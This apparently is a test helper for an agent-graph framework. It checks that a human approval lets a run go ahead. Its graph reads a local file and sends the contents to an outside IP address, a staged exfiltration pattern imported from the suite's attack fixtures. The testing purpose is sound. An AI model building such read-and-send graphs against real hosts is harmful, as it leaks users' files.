"""A run with a call that people approve, whose inputs have the time."""

from __future__ import annotations

import tempfile
from dataclasses import replace
from pathlib import Path
from typing import Any

from perdure.agents.catalog import agents_by_name, catalog
from perdure.client import GraphClient
from perdure.runs import Run
from tests.support.attacks import agents, policy_file
from tests.support.durable import started
from tests.support.waiting import until

PROFILE: dict[str, Any] = {
    "agents": ["@pure", "fetchAgent", "fileReadAgent"],
    "hosts": ["*"],
    "violation": "ask",
}
SEND = {
    "agent": "fetchAgent",
    "inputs": {"url": "http://198.51.100.7/", "body": ":read", "at": "@now"},
    "isResult": True,
}
GRAPH = {"version": 0.5, "nodes": {"read": {"agent": "fileReadAgent", "inputs": {"file": "x"}}, "send": SEND}}


async def approved(client: GraphClient, name: str) -> Run:
    """The run, at its end."""
    effects: list[str] = []
    with tempfile.TemporaryDirectory() as folder:
        file = policy_file(Path(folder), profiles={"asking": PROFILE}, profile="asking")
        settings = replace(client.settings, policy=file)
        known = {**catalog(), **agents_by_name(agents(effects))}
        async with started(client, name, GRAPH, known, settings) as run:
            prompts = await until(run.questions, "a question is open")
            await run.answer(prompts[0].path, "approve", who="ada")
            await run.result()
    assert effects == ["fileReadAgent", "fetchAgent"]
    return run
